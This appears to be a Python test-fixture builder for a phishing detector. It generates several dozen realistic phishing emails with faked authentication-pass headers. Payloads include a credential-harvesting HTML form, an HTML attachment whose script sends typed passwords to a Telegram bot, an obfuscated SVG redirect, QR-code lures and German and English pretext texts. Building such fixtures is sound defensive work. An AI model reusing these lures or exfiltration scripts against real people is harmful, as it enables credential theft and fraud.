# ruff: noqa: E501  (message text and page templates are data, kept on their lines)
"""Builds tests/messages/modern_phish_*.eml (+ .toml): phishing of our own making sent from
real, authenticated accounts (hijacked provider notification addresses, free Microsoft 365
tenants, compromised vendor / university mailboxes, free-mail), with the receiver's
Authentication-Results claiming spf/dkim/dmarc=pass. Every case must be flagged "phishing".

Run from the repository root:  .venv/bin/python -m tests.messages.modern_phish_build
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

from tests.message.attach_builders import pdf, qr_png

HERE = Path(__file__).parent
RCPT = "j.berger@example.net"
RCPT_B64 = base64.b64encode(RCPT.encode()).decode()


@dataclass
class Case:
    name: str
    from_: str
    subject: str
    mail_from_domain: str  # the authenticated domain (envelope + DKIM d=)
    outbound: tuple[str, str]  # (sending host rDNS, IP)
    text: str | None = None
    html: str | None = None
    attachments: list[tuple[str, str, bytes]] = field(default_factory=list)
    reply_to: str | None = None
    must: list[str] = field(default_factory=list)
    note: str = ""


def headers(case: Case, n: int) -> list[tuple[str, str]]:
    # Our MX (mx1.example.net) writes its Authentication-Results above its own Received
    # header, as Gmail and Exchange Online do; the sender's DKIM-Signature lies below.
    host, ip = case.outbound
    dom = case.mail_from_domain
    date = f"Tue, 13 Jan 2026 0{n % 10}:{10 + n:02d}:41 +0000"
    return [
        (
            "Authentication-Results",
            f"mx1.example.net; spf=pass smtp.mailfrom={dom}; "
            f"dkim=pass header.d={dom} header.s=selector1 header.b=Qx{n:02d}fK9a; "
            f"dmarc=pass header.from={dom}",
        ),
        (
            "Received",
            f"from {host} ({host} [{ip}]) by mx1.example.net with ESMTPS id "
            f"4dQk{n:02d}Zr7Lz for <{RCPT}>; {date}",
        ),
        (
            "DKIM-Signature",
            f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={dom}; s=selector1; "
            f"h=From:Date:Subject:Message-ID:To:MIME-Version; bh=k3Yq{n:02d}Lw0bm9T2Vd5=; "
            f"b=Nf0pQ{n:02d}s8vYhQ2mJxkP1cR7lZr3Wc8bA==",
        ),
        (
            "Received",
            f"from internal.{dom} (localhost [127.0.0.1]) by {host} with ESMTPSA; {date}",
        ),
    ]


def build(case: Case, n: int) -> bytes:
    msg = EmailMessage(policy=SMTP)
    for k, v in headers(case, n):
        msg[k] = v
    msg["From"] = case.from_
    msg["To"] = RCPT
    msg["Subject"] = case.subject
    msg["Date"] = f"Tue, 13 Jan 2026 0{n % 10}:{10 + n:02d}:39 +0000"
    msg["Message-ID"] = f"<{case.name}.{n}@{case.mail_from_domain}>"
    if case.reply_to:
        msg["Reply-To"] = case.reply_to
    if case.text is not None:
        msg.set_content(case.text)
        if case.html is not None:
            msg.add_alternative(case.html, subtype="html")
    elif case.html is not None:
        msg.set_content(case.html, subtype="html")
    for filename, mime, data in case.attachments:
        main, _, sub = mime.partition("/")
        if main == "text":
            msg.add_attachment(data.decode(), subtype=sub, filename=filename)
        else:
            msg.add_attachment(data, maintype=main, subtype=sub, filename=filename)
    return msg.as_bytes()


def page(body: str) -> str:
    return (
        '<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px">'
        + body
        + "</body></html>"
    )


def button(url: str, label: str) -> str:
    return (
        f'<p><a href="{url}" style="background:#0078d4;color:#fff;padding:8px 18px;'
        f'text-decoration:none">{label}</a></p>'
    )


MS_OUT = ("mail-am6eur05on2071.outbound.protection.outlook.com", "40.107.22.71")
MS_OUT2 = ("mail-db8eur05on2105.outbound.protection.outlook.com", "40.107.20.105")
GOOGLE_OUT = ("mail-sor-f69.google.com", "209.85.220.69")

CRED_HTML = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Microsoft 365</title>
</head><body style="background:#f2f2f2"><div style="width:440px;margin:80px auto;background:#fff;
padding:40px"><img src="data:image/png;base64,iVBORw0KGgo=" alt="Microsoft"><h3>Sign in to view
the document</h3><p>Because you are accessing sensitive info, you need to verify your password.</p>
<form method="POST" action="https://remit-docs.portal-share.workers.dev/auth">
<input type="email" name="login" value="{rcpt}" readonly>
<input type="password" name="passwd" placeholder="Password" required>
<input type="submit" value="Sign in"></form></div></body></html>"""

TELEGRAM_HTML = """<html><head><title>Voice Message</title></head><body>
<div class="card"><h4>Microsoft Outlook</h4><p>Enter password to play voicemail (00:47)</p>
<input id="u" type="hidden" value="{rcpt}"><input id="p" type="password">
<button id="b">Listen</button></div><script>
document.getElementById('b').onclick=function(){{fetch('https://api.telegram.org/bot7715093321:AAF/sendMessage?chat_id=-100422&text='+encodeURIComponent(document.getElementById('u').value+':'+document.getElementById('p').value)).then(function(){{location.href='https://outlook.office.com/'}});}};
</script></body></html>"""

REFRESH_HTML = """<html><head><meta http-equiv="refresh" content="0;url=https://benefits-enrol.hr-portal2026.pages.dev/?e={b64}"></head>
<body><p>Loading secure document&hellip;</p></body></html>"""

SVG = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="480" height="160"><rect width="480" height="160" fill="#f3f2f1"/>
<text x="20" y="50" font-size="18">&#9654; VM-Audio 0:38 &#8212; click to play</text>
<script><![CDATA[
var t="aHR0cHM6Ly92b2ljZW1haWwtb3V0bG9vay5zdG9ybWZpcmUtMjYud29ya2Vycy5kZXYvP20=";
window.location.href=atob(t)+"#"+"{rcpt}";
]]></script></svg>"""


def cases() -> list[Case]:
    return [
        Case(
            "hijacked_ms_signin_pagesdev",
            "Microsoft account team <account-security-noreply@accountprotection.microsoft.com>",
            "Microsoft account unusual sign-in activity",
            "accountprotection.microsoft.com",
            MS_OUT,
            html=page(
                "<h2>Unusual sign-in activity</h2><p>We detected something unusual about a recent"
                f" sign-in to the Microsoft account <b>{RCPT}</b>.</p><p>Country/region: Nigeria<br>"
                "IP address: 102.89.34.17<br>Platform: Windows 10<br>Browser: Firefox</p>"
                "<p>If this wasn't you, please secure your account. A user from this location"
                " could gain access to your mailbox.</p>"
                + button(
                    "https://account-live-review.pages.dev/signin?u=" + RCPT_B64,
                    "Review recent activity",
                )
                + "<p>Thanks,<br>The Microsoft account team</p>"
            ),
            must=["LINK_USER_CONTENT_HOST"],
            note="hijacked Microsoft security notification address, link to *.pages.dev",
        ),
        Case(
            "hijacked_google_sites",
            "Google <no-reply@accounts.google.com>",
            "Security alert: a subpoena was issued for your Google Account",
            "accounts.google.com",
            GOOGLE_OUT,
            text=(
                "Google has received a subpoena issued by a law enforcement authority requiring"
                " the production of content in your Google Account.\n\nCase number: 4-1421000031682\n\n"
                "To examine the case materials or file a protest, visit:\n"
                "https://sites.google.com/view/support-case-4-1421000031682/home\n\n"
                "If you do not respond within 7 days, Google will be required to comply.\n\n"
                "Regards,\nGoogle LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043\n"
            ),
            must=["LINK_USER_CONTENT_HOST"],
            note="replayed/hijacked Google account-notification address, link to sites.google.com",
        ),
        Case(
            "hijacked_msonline_mailbox_full_workers",
            "Microsoft Online Services Team <msonlineservicesteam@microsoftonline.com>",
            "Action required: your mailbox storage is full (99.7%)",
            "microsoftonline.com",
            MS_OUT2,
            html=page(
                "<p>Your Microsoft 365 mailbox has reached its storage limit (49.8 GB of 50 GB)."
                " You can no longer send or receive new messages. Incoming messages are being"
                " held and will be deleted after 48 hours.</p>"
                + button(
                    "https://storage-upgrade.m365-quota.workers.dev/?id=" + RCPT_B64,
                    "Free up space now",
                )
                + "<p>Microsoft Online Services Team</p>"
            ),
            must=["LINK_USER_CONTENT_HOST"],
            note="hijacked Microsoft notification address, mailbox-full lure, *.workers.dev",
        ),
        Case(
            "tenant_password_expiry_s3",
            "Microsoft 365 Admin <admin@hrpayrollsvc24.onmicrosoft.com>",
            f"Password expiration notice for {RCPT}",
            "hrpayrollsvc24.onmicrosoft.com",
            MS_OUT,
            html=page(
                f"<p>The password for <b>{RCPT}</b> expires today.</p><p>To keep using your current"
                " password and avoid losing access to Outlook, Teams and OneDrive, confirm it"
                " below.</p>"
                + button(
                    "https://s3.eu-central-1.amazonaws.com/o365-keep-pwd/index.html#" + RCPT,
                    "Keep current password",
                )
                + "<p>Microsoft 365 Administrator</p>"
            ),
            must=["SENDER_FREE_TENANT_BRAND_CLAIM", "LINK_CLOUD_BUCKET_PAGE"],
            note="free M365 tenant, password expiry, S3 bucket page",
        ),
        Case(
            "tenant_sharepoint_share_r2",
            "SharePoint Online <noreply@kanzlei-weber.onmicrosoft.com>",
            'Thomas Krüger shared "Q4 Bonus Allocation.xlsx" with you',
            "kanzlei-weber.onmicrosoft.com",
            MS_OUT2,
            html=page(
                "<p>Thomas Krüger shared a file with you</p><table><tr><td>&#128196;</td><td>"
                '<b>Q4 Bonus Allocation.xlsx</b></td></tr></table><p>"Please review before Friday."</p>'
                + button("https://pub-3f9c1e2a7b5d4c61.r2.dev/sharepoint/view.html", "Open")
                + '<p style="color:#666">Microsoft respects your privacy. This email was generated'
                " from a SharePoint site.</p>"
            ),
            must=["SENDER_FREE_TENANT_BRAND_CLAIM"],
            note="free M365 tenant, SharePoint share lure, Cloudflare R2 page",
        ),
        Case(
            "tenant_postfach_voll_de",
            "Microsoft Outlook <it-support@stadtwerke-info.onmicrosoft.com>",
            "Ihr Postfach ist voll – Nachrichten werden zurückgehalten",
            "stadtwerke-info.onmicrosoft.com",
            MS_OUT,
            html=page(
                f"<p>Sehr geehrte(r) Benutzer(in) {RCPT},</p><p>Ihr Postfach hat das Speicherlimit"
                " erreicht. 14 eingehende Nachrichten wurden zurückgehalten und werden in 24 Stunden"
                " gelöscht.</p><p>Bitte bestätigen Sie Ihr Konto, um zusätzlichen Speicherplatz"
                " kostenlos freizugeben.</p>"
                + button(
                    "https://outlook-speicher-de.web.app/?mail=" + RCPT, "Speicher jetzt erweitern"
                )
                + "<p>Mit freundlichen Grüßen<br>Ihr Microsoft 365 Team</p>"
            ),
            must=["SENDER_FREE_TENANT_BRAND_CLAIM", "LINK_USER_CONTENT_HOST"],
            note="German mailbox-full, free tenant, Firebase web.app",
        ),
        Case(
            "vendor_invoice_open_redirect",
            "Sabine Hoffmann | Schmidt Logistik GmbH <s.hoffmann@schmidt-logistik.de>",
            "Rechnung RE-2026-00417 – offener Betrag 4.812,30 EUR",
            "schmidt-logistik.de",
            ("mail.schmidt-logistik.de", "85.13.147.20"),
            html=page(
                "<p>Guten Tag,</p><p>anbei erhalten Sie unsere Rechnung RE-2026-00417 über"
                " 4.812,30 EUR. Die Rechnung wurde Ihnen über OneDrive freigegeben.</p>"
                + button(
                    "https://www.google.com/url?q=https%3A%2F%2Fschmidt-rechnung.firstlineportal.ru"
                    "%2Fonedrive%2F&sa=D&usg=AOvVaw2x",
                    "Rechnung anzeigen",
                )
                + "<p>Mit freundlichen Grüßen<br>Sabine Hoffmann<br>Buchhaltung<br>Schmidt Logistik GmbH"
                "<br>Industriestraße 12, 33602 Bielefeld</p>"
            ),
            must=["LINK_OPEN_REDIRECT"],
            note="compromised vendor mailbox, invoice via OneDrive lure, Google open redirect",
        ),
        Case(
            "university_password_shortener",
            "IT Service Desk <m.keller@physik.uni-example.de>",
            "[IT-Helpdesk] Your password expires in 24 hours",
            "uni-example.de",
            ("mailout.uni-example.de", "141.20.5.18"),
            text=(
                "Dear staff member,\n\nYour Office 365 password will expire in 24 hours. To keep"
                " your current password please validate your account now:\n\n"
                "https://bit.ly/3UniPwKeep\n\nFailure to do so will result in your account being"
                " deactivated.\n\nIT Service Desk\n"
            ),
            must=["LINK_SHORTENER"],
            note="compromised university mailbox, password expiry, bit.ly",
        ),
        Case(
            "freemail_onedrive_blob",
            "OneDrive for Business <katrin.vogel1987@gmail.com>",
            'Katrin Vogel has shared "Signed Contract.pdf" with you',
            "gmail.com",
            GOOGLE_OUT,
            html=page(
                "<p>Katrin Vogel shared a file with you via OneDrive</p><p><b>Signed Contract.pdf</b>"
                " (2 pages)</p>"
                + button(
                    "https://docshare8841.blob.core.windows.net/$web/onedrive/index.html",
                    "View document",
                )
                + "<p>This link will only work for the direct recipients of this message.</p>"
            ),
            must=["LINK_CLOUD_BUCKET_PAGE"],
            note="free-mail account, OneDrive share lure, Azure blob $web page",
        ),
        Case(
            "tenant_mfa_qr_png",
            "Microsoft Security <security@authsvc-update.onmicrosoft.com>",
            "Action required: re-register multi-factor authentication",
            "authsvc-update.onmicrosoft.com",
            MS_OUT,
            html=page(
                "<p>Your multi-factor authentication (MFA) settings must be updated by"
                " 16 January 2026, or your account will be locked.</p><p>Scan the attached QR code"
                " with your phone camera to re-register your Microsoft Authenticator app.</p>"
                "<p>Microsoft 365 Security</p>"
            ),
            attachments=[
                (
                    "MFA_Setup.png",
                    "image/png",
                    qr_png("https://mfa-reg.authupdate-ms.pages.dev/?u=" + RCPT_B64, scale=4),
                )
            ],
            must=["SENDER_FREE_TENANT_BRAND_CLAIM", "ATTACH_QR_LINK"],
            note="free tenant, MFA re-registration, QR in PNG attachment",
        ),
        Case(
            "vendor_payroll_qr_pdf_de",
            "Personalabteilung <lohn@steuerbuero-maier.de>",
            "Wichtig: Aktualisierung Ihrer Gehaltsabrechnung Januar 2026",
            "steuerbuero-maier.de",
            ("smtp.steuerbuero-maier.de", "178.254.10.44"),
            text=(
                "Sehr geehrte Mitarbeiterin, sehr geehrter Mitarbeiter,\n\nim Anhang finden Sie"
                " Informationen zur Aktualisierung Ihrer Gehaltsabrechnung. Bitte scannen Sie den"
                " QR-Code im Dokument mit Ihrem Smartphone und melden Sie sich mit Ihren"
                " Microsoft-365-Zugangsdaten an, damit die Auszahlung nicht verzögert wird.\n\n"
                "Mit freundlichen Grüßen\nPersonalabteilung\n"
            ),
            attachments=[
                (
                    "Gehaltsabrechnung_01-2026.pdf",
                    "application/pdf",
                    pdf(
                        ("Gehaltsabrechnung Januar 2026", "Bitte QR-Code scannen und anmelden."),
                        qr="https://lohn-portal-de.netlify.app/m365/?e=" + RCPT_B64,
                    ),
                )
            ],
            must=["ATTACH_QR_LINK"],
            note="compromised vendor (tax adviser), German payroll lure, QR in PDF",
        ),
        Case(
            "vendor_remittance_html_form",
            "Accounts Receivable <ar@northwind-supplies.co.uk>",
            "Remittance Advice - Payment REF#88213 Completed",
            "northwind-supplies.co.uk",
            ("mail.northwind-supplies.co.uk", "185.132.179.80"),
            text=(
                "Hello,\n\nPlease find attached the remittance advice for payment REF#88213"
                " (GBP 12,640.00) released today.\n\nKind regards,\nAccounts Receivable\n"
                "Northwind Supplies Ltd\n"
            ),
            attachments=[
                (
                    "Remittance_REF88213.html",
                    "text/html",
                    CRED_HTML.format(rcpt=RCPT).encode(),
                )
            ],
            must=["ATTACH_CREDENTIAL_FORM"],
            note="compromised vendor, remittance lure, HTML attachment with password form",
        ),
        Case(
            "vendor_voicemail_html_telegram",
            "Voice Mail Service <noreply@brightpath-consulting.com>",
            f"New voicemail for {RCPT} (00:47) - Tuesday",
            "brightpath-consulting.com",
            ("smtp.brightpath-consulting.com", "198.51.100.23"),
            text="You received a new voice message. Open the attachment to listen.\n",
            attachments=[
                ("VM_0047_Play.htm", "text/html", TELEGRAM_HTML.format(rcpt=RCPT).encode())
            ],
            must=["ATTACH_CREDENTIAL_FORM"],
            note="compromised company mailbox, voicemail lure, HTML with script exfil to Telegram",
        ),
        Case(
            "vendor_invoice_pdf_link",
            "Mark Ellison <mark.ellison@ellison-electrical.com>",
            "Overdue invoice INV-20931 - final reminder",
            "ellison-electrical.com",
            ("mail.ellison-electrical.com", "203.0.113.140"),
            text=(
                "Hi,\n\nOur records show invoice INV-20931 is now 30 days overdue. Please review the"
                " attached statement and arrange payment today to avoid a late fee.\n\nThanks,\n"
                "Mark Ellison\nEllison Electrical Ltd\n"
            ),
            attachments=[
                (
                    "Statement_INV-20931.pdf",
                    "application/pdf",
                    pdf(
                        (
                            "Secure document",
                            "This invoice is protected by Microsoft 365.",
                            "Click VIEW DOCUMENT to sign in.",
                        ),
                        link="https://ellison-docs-view.vercel.app/login",
                    ),
                )
            ],
            must=["ATTACH_PDF_LINK_ONLY"],
            note="compromised vendor, overdue invoice, PDF with one link to *.vercel.app login",
        ),
        Case(
            "vendor_docusign_workers",
            "DocuSign via Meridian Property <leasing@meridianproperty.com>",
            "Please DocuSign: Lease Renewal Agreement 2026.pdf",
            "meridianproperty.com",
            ("mail.meridianproperty.com", "192.0.2.77"),
            html=page(
                '<div style="background:#1e4ca1;color:#fff;padding:20px"><b>Meridian Property sent'
                " you a document to review and sign.</b></div>"
                + button(
                    "https://docusign-envelope-7712.lease-docs.workers.dev/?e=" + RCPT_B64,
                    "REVIEW DOCUMENT",
                )
                + "<p>Please review and sign the lease renewal by end of day.</p>"
                "<p>Do Not Share This Email: this email contains a secure link to DocuSign.</p>"
            ),
            must=["LINK_USER_CONTENT_HOST"],
            note="compromised property vendor, e-signature lure, workers.dev",
        ),
        Case(
            "paypal_invoice_callback",
            "service@paypal.com",
            "You have a new invoice from Geek-Tech Support Services",
            "paypal.com",
            ("mx0.slc.paypal.com", "173.0.84.226"),
            text=(
                "Geek-Tech Support Services sent you an invoice for $599.99 USD\n\n"
                "Note from seller: Your PayPal account was charged $599.99 for Norton Total"
                " Security 3-Year renewal. If you did not authorise this transaction, call our"
                " billing department immediately at +1 (808) 555-0143 to cancel and receive a"
                " refund. Do not pay online.\n\nInvoice number: 0019\nDue on receipt\n"
            ),
            note="real PayPal invoice notification abused for a callback (refund) scam",
        ),
        Case(
            "hijacked_ms_signin_de_tinyurl",
            "Microsoft-Kontoteam <account-security-noreply@accountprotection.microsoft.com>",
            "Ungewöhnliche Anmeldeaktivität für Ihr Microsoft-Konto",
            "accountprotection.microsoft.com",
            MS_OUT2,
            html=page(
                "<h2>Ungewöhnliche Anmeldeaktivität</h2><p>Wir haben eine ungewöhnliche Anmeldung"
                f" bei Ihrem Microsoft-Konto <b>{RCPT}</b> festgestellt.</p><p>Land/Region:"
                " Brasilien<br>IP-Adresse: 177.38.12.9</p><p>Wenn Sie das nicht waren, überprüfen"
                " Sie bitte umgehend Ihre Sicherheitsinformationen, sonst wird Ihr Konto"
                " gesperrt.</p>"
                + button("https://tinyurl.com/ms-konto-pruefen", "Aktivität überprüfen")
                + "<p>Vielen Dank<br>Ihr Microsoft-Kontoteam</p>"
            ),
            must=["LINK_SHORTENER"],
            note="German unusual sign-in from hijacked Microsoft address, tinyurl",
        ),
        Case(
            "vendor_share_netlify_de",
            "Dr. Petra Lange <p.lange@lange-steuerberatung.de>",
            'Petra Lange hat "Jahresabschluss_2025.pdf" für Sie freigegeben',
            "lange-steuerberatung.de",
            ("mail.lange-steuerberatung.de", "217.160.0.91"),
            html=page(
                "<p>Petra Lange hat eine Datei für Sie freigegeben.</p><p><b>Jahresabschluss_2025.pdf"
                "</b></p>"
                + button("https://sharepoint-dokumente-lange.netlify.app/", "Öffnen")
                + "<p>Diese Freigabe läuft in 48 Stunden ab. Melden Sie sich mit Ihrem"
                " Microsoft-Konto an, um das Dokument anzuzeigen.</p>"
            ),
            must=["LINK_USER_CONTENT_HOST"],
            note="compromised tax adviser, German SharePoint share lure, netlify.app",
        ),
        Case(
            "tenant_billing_ipfs",
            "Microsoft 365 Billing <billing@subsnotice-0931.onmicrosoft.com>",
            "Your Microsoft 365 subscription payment failed",
            "subsnotice-0931.onmicrosoft.com",
            MS_OUT,
            html=page(
                "<p>We couldn't process the payment for your Microsoft 365 Business Standard"
                " subscription (invoice E0600Q7KX1, EUR 118.80).</p><p>Update your billing"
                " information within 3 days to avoid suspension of email and files for your"
                " organisation.</p>"
                + button(
                    "https://ipfs.io/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi"
                    "?filename=billing.html",
                    "Update payment method",
                )
            ),
            must=["SENDER_FREE_TENANT_BRAND_CLAIM"],
            note="free tenant, billing/invoice lure, IPFS gateway page",
        ),
        Case(
            "university_quarantine_vercel",
            "Message Center <helpdesk-noreply@mail.state-college.edu>",
            "You have 6 pending messages in quarantine",
            "state-college.edu",
            ("mailgw.state-college.edu", "192.0.2.201"),
            html=page(
                f"<p>{RCPT}</p><p>6 messages are held in your quarantine and could not be delivered"
                " to your inbox. Review them within 72 hours or they will be deleted.</p><table>"
                "<tr><td>Payment confirmation</td><td>Release</td></tr><tr><td>Shipping notice"
                "</td><td>Release</td></tr></table>"
                + button(
                    "https://mail-quarantine-release.vercel.app/?u=" + RCPT, "Release messages"
                )
            ),
            must=["LINK_USER_CONTENT_HOST"],
            note="compromised university relay, quarantine-release lure, vercel.app",
        ),
        Case(
            "freemail_hr_html_redirect",
            "HR Department <hr.benefits.office@outlook.com>",
            "2026 Benefits enrollment - action required",
            "outlook.com",
            ("EUR05-AM6-obe.outbound.protection.outlook.com", "52.101.69.12"),
            text=(
                "All employees must review and confirm their 2026 benefits enrollment by Friday."
                " Open the attached document and sign in to complete.\n\nHR Department\n"
            ),
            attachments=[
                (
                    "Benefits_2026.html",
                    "text/html",
                    REFRESH_HTML.format(b64=RCPT_B64).encode(),
                )
            ],
            must=["ATTACH_HTML_REDIRECT"],
            note="free-mail account posing as HR, HTML attachment redirecting to *.pages.dev",
        ),
        Case(
            "vendor_linkedin_redirect",
            "Daniel Brooks <d.brooks@harborline-freight.com>",
            "RE: Updated bank details for outstanding payments",
            "harborline-freight.com",
            ("mail.harborline-freight.com", "198.51.100.90"),
            html=page(
                "<p>Hi,</p><p>As discussed, our bank details changed. The updated payment"
                " instructions are in the shared file below; you will need to sign in with your"
                " work email to view it.</p>"
                + '<p><a href="https://www.linkedin.com/slink?code=eVqF3tTz">Payment_Instructions.pdf</a></p>'
                + "<p>Regards,<br>Daniel Brooks<br>Finance Manager, Harborline Freight</p>"
            ),
            # Either LINK_OPEN_REDIRECT or LINK_SHORTENER would name it: only the verdict is fixed.
            note="compromised vendor, bank-details change, LinkedIn slink redirect",
        ),
        Case(
            "hijacked_ms_fragment_recipient",
            "Microsoft 365 <no-reply@sharepointonline.com>",
            "Document shared with you: Salary_Review_2026.docx",
            "sharepointonline.com",
            MS_OUT2,
            text=(
                "HR Team shared a file with you.\n\nSalary_Review_2026.docx\n\n"
                "Open: https://login-microsoftonline-docs.pages.dev/#" + RCPT_B64 + "\n\n"
                "This link works for the people you shared it with.\n"
            ),
            must=["LINK_USER_CONTENT_HOST"],
            note="plain-text share notification from a real SharePoint sender address, "
            "recipient base64 in the fragment",
        ),
        Case(
            "vendor_mailbox_full_r2_plain",
            "Email Administrator <office@greenfield-dental.com>",
            "Mailbox storage 98% full - incoming mail suspended",
            "greenfield-dental.com",
            ("mail.greenfield-dental.com", "203.0.113.61"),
            text=(
                f"Dear {RCPT},\n\nYour mailbox storage is 98% full. Incoming messages are suspended"
                " until you verify your account and upgrade your quota at no cost:\n\n"
                "https://pub-91ad0c7e5e2a4b8f.r2.dev/owa/upgrade.html?email=" + RCPT + "\n\n"
                "Email Administrator\n"
            ),
            note="compromised dental-practice mailbox, mailbox-full lure, R2 page (plain text)",
        ),
        Case(
            "vendor_zahlungserinnerung_lookalike_pdf_de",
            "Buchhaltung Bergmann Bau <buchhaltung@bergmann-bau.de>",
            "Zahlungserinnerung: Rechnung 2026-118 überfällig",
            "bergmann-bau.de",
            ("mail.bergmann-bau.de", "80.237.132.9"),
            text=(
                "Sehr geehrte Damen und Herren,\n\nleider konnten wir für die Rechnung 2026-118 noch"
                " keinen Zahlungseingang feststellen. Die Rechnung liegt als PDF bei; bitte"
                " begleichen Sie den Betrag umgehend, um Mahngebühren zu vermeiden.\n\n"
                "Mit freundlichen Grüßen\nBuchhaltung\nBergmann Bau GmbH\n"
            ),
            attachments=[
                (
                    "Rechnung_2026-118.pdf",
                    "application/pdf",
                    pdf(
                        ("Rechnung 2026-118", "Dokument geschützt - in OneDrive öffnen"),
                        link="https://onedrive-live-share.com/dokument/2026-118",
                    ),
                )
            ],
            must=["ATTACH_PDF_LINK_ONLY"],
            note="compromised construction vendor, German payment reminder, PDF link to "
            "OneDrive lookalike domain",
        ),
        Case(
            "tenant_teams_azurewebsites",
            "Microsoft Teams <teams-notify@meetupdates77.onmicrosoft.com>",
            "You have 3 unread messages in Teams",
            "meetupdates77.onmicrosoft.com",
            MS_OUT,
            html=page(
                '<p><b>Your teammates are trying to reach you</b></p><p>Anna (Finance): "Can you'
                ' approve the attached invoice today?"</p>'
                + button(
                    "https://teams-chat-view.azurewebsites.net/login?u=" + RCPT, "Reply in Teams"
                )
            ),
            must=["SENDER_FREE_TENANT_BRAND_CLAIM"],
            note="free tenant posing as Teams, azurewebsites.net",
        ),
        Case(
            "vendor_svg_voicemail",
            "Telefonanlage <voicemail@praxis-hansen.de>",
            "Neue Sprachnachricht von +49 40 5551 2210",
            "praxis-hansen.de",
            ("mail.praxis-hansen.de", "212.227.15.41"),
            text="Sie haben eine neue Sprachnachricht (0:38). Öffnen Sie den Anhang, um sie abzuspielen.\n",
            attachments=[
                ("Sprachnachricht_0038.svg", "image/svg+xml", SVG.format(rcpt=RCPT).encode())
            ],
            must=["ATTACH_HTML_REDIRECT"],
            note="compromised medical practice, German voicemail lure, SVG with script redirect",
        ),
    ]


def main() -> None:
    for n, case in enumerate(cases(), 1):
        stem = HERE / f"modern_phish_{case.name}"
        stem.with_suffix(".eml").write_bytes(build(case, n))
        must = ", ".join(f'"{m}"' for m in case.must)
        stem.with_suffix(".toml").write_text(
            f"# modern_phish_{case.name}: {case.note} (our own making, modern_phish_build.py)\n"
            f'verdict = "phishing"\nmust = [{must}]\nmust_not = ["ENGINE_DETECTOR_ERROR"]\n',
            "utf-8",
        )


if __name__ == "__main__":
    main()
